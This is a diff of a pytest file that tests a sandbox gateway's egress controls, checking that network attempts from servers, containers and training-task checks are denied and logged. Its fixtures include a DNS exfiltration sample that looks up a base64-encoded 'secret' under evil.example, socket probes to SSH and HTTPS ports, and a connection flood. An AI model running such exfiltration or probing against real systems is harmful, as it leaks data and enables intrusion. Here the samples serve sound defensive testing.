@@ -17,14 +17,16 @@ import pytest
 
 from gateway.cli.audit import record_line
 from gateway.core.calls import LOCAL, Answered, Front, ToolCall
+from gateway.core.episode import Submit
 from gateway.runtime.audit import query, verify
+from gateway.runtime.episodes import Episodes, ResetRequest
 from gateway.runtime.gateway import Gateway, GatewaySettings
 from gateway.runtime.pool_shelf import PoolSettings
 from gateway.runtime.sessions import Session, new_call_id
 from gateway.sandbox.contract import SandboxDriver
 from gateway.sandbox.drivers import make_driver
 from gateway.sandbox.egress import EgressGate, EgressSettings
-from tests.support.docker_engine import provide_engine
+from tests.support.docker_engine import provide_engine, require_gvisor
 from tests.support.gateways import copy_pack, served
 from tests.support.launchers import launchers
 from tests.support.ledgers import records_of
@@ -242,13 +244,23 @@ TRIED = {
 """What a server tries by itself, and how the ledger names it."""
 
 
+@pytest.fixture(params=["cold", "forked", "docker"])
+def kind(request: pytest.FixtureRequest, tmp_path: Path) -> dict[str, Any]:
+    """How servers are started where what they try past the proxy is seen, as arguments of `net`."""
+    if request.param != "docker":
+        return {"manifest": "    fork_server: true\n" if request.param == "forked" else ""}
+    if os.geteuid() != 0:
+        pytest.skip("only root may listen in a container's network")
+    provide_engine(request)
+    return {"sandbox": make_driver("docker", cache_dir=tmp_path / "cache")}
+
+
 @pytest.mark.parametrize("granted", [True, False])
-@pytest.mark.parametrize("manifest", ["", "    fork_server: true\n"])
 async def test_past_the_proxy_everything_is_refused_and_recorded(
-    granted: bool, manifest: str, tmp_path: Path
+    granted: bool, kind: dict[str, Any], tmp_path: Path
 ) -> None:
     more: dict[str, Any] = {} if granted else {"policy": NO_GRANTS}
-    async with net(tmp_path, manifest=manifest, **more) as here:
+    async with net(tmp_path, **kind, **more) as here:
         for tool, host, port in TRIED:
             assert "failed" in await here.call(tool, host=host, port=port)
         assert "failed" in await here.call("resolve", host="a.web.example")
@@ -274,8 +286,10 @@ async def test_past_the_proxy_everything_is_refused_and_recorded(
     assert verify(tmp_path / "state").ok
 
 
-async def test_a_flood_past_the_proxy_is_counted_and_does_not_flood_the_ledger(tmp_path: Path) -> None:
-    async with net(tmp_path) as here:
+async def test_a_flood_past_the_proxy_is_counted_and_does_not_flood_the_ledger(
+    kind: dict[str, Any], tmp_path: Path
+) -> None:
+    async with net(tmp_path, **kind) as here:
         assert await here.call("flood", host="203.0.113.7", ports=300, each=20) == "sent"
         assert "failed" in await here.call("connect", host="203.0.113.7", port=443)
         tally = here.gateway.readings.egress.decisions
@@ -286,8 +300,8 @@ async def test_a_flood_past_the_proxy_is_counted_and_does_not_flood_the_ledger(t
     assert tally[("net", "net", "deny", "past_the_proxy")] == 300 * 20 + 1
 
 
-async def test_what_two_sessions_try_is_not_mixed_up(tmp_path: Path) -> None:
-    async with net(tmp_path, manifest="    fork_server: true\n", policy=NO_GRANTS) as here:
+async def test_what_two_sessions_try_is_not_mixed_up(kind: dict[str, Any], tmp_path: Path) -> None:
+    async with net(tmp_path, **kind, policy=NO_GRANTS) as here:
         others = [Net(here.gateway, await here.gateway.open_session("net", LOCAL), 0) for _ in range(3)]
         async with anyio.create_task_group() as tasks:
             for number, one in enumerate(others):
@@ -301,6 +315,65 @@ async def test_what_two_sessions_try_is_not_mixed_up(tmp_path: Path) -> None:
 
 async def connects(here: Net, host: str, port: int) -> None:
     assert "failed" in await here.call("connect", host=host, port=port)
+
+
+async def test_what_gvisor_refuses_is_not_told(
+    request: pytest.FixtureRequest, engine: str, tmp_path: Path
+) -> None:
+    require_gvisor()
+    async with net(tmp_path, sandbox=make_driver("gvisor", cache_dir=tmp_path / "cache")) as here:
+        for tool, host, port in TRIED:
+            assert "failed" in await here.call(tool, host=host, port=port)
+    assert told(tmp_path) == []
+
+
+CHECKED = """
+id: checked
+split: train
+prompt: p
+rubric:
+  - check: {command: [python, -c, "import socket; socket.socket().connect_ex(('203.0.113.7', 443))"]}
+  - check: {python: phone.py}
+step_rewards:
+  - reward: 0.5
+    check: {command: [python, -c, "import socket; socket.socket().connect_ex(('10.0.0.1', 22))"]}
+"""
+PHONES = """import socket
+try:
+    socket.getaddrinfo("c2VjcmV0.evil.example", 443)
+except OSError:
+    print(1.0)
+"""
+
+
+@pytest.mark.parametrize("kind", ["cold", "docker"], indirect=True)
+async def test_what_programs_of_checks_try_is_recorded_as_theirs(
+    kind: dict[str, Any], tmp_path: Path
+) -> None:
+    folder = copy_pack("net", tmp_path).folder
+    (folder / "tasks").mkdir()
+    (folder / "tasks" / "checked.yaml").write_text(CHECKED)
+    (folder / "phone.py").write_text(PHONES)
+    with (folder / "toolpack.yaml").open("a") as manifest:
+        manifest.write("env: {tasks: tasks/, submit: true}\n")
+    async with net(tmp_path, **kind, settings=GatewaySettings(mode="training")) as here:
+        held = Episodes(here.gateway, cache_dir=tmp_path / "cache")
+        async with held.held("net", LOCAL, None) as session:
+            await session.reset(ResetRequest(task="checked"))
+            end = await session.step(Submit("done"))
+        tally = here.gateway.readings.egress.decisions
+    assert end.reward == 1.5
+    metadata: Any = end.metadata
+    paid, command, script = (each["check"] for each in (*metadata["step_rewards"], *metadata["rubric"]))
+    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
+    assert [(r["server"], r["egress"]["asked"]) for r in found if r["egress"]["protocol"]] == [
+        (f"check: {paid}", "tcp 10.0.0.1:22"),
+        (f"check: {command}", "tcp 203.0.113.7:443"),
+        (f"check: {script}", "dns c2VjcmV0.evil.example"),
+    ]
+    assert {(r["session"], r["episode"]) for r in found} == {(session.id, metadata["episode_id"])}
+    assert {(r["decision"]["effect"], r["decision"]["code"]) for r in found} == {("deny", "past_the_proxy")}
+    assert tally == {("net", "check", "deny", "past_the_proxy"): sum(r["egress"]["attempts"] for r in found)}
 
 
 async def test_once_the_launcher_was_killed_the_next_one_sees_as_much(tmp_path: Path) -> None:
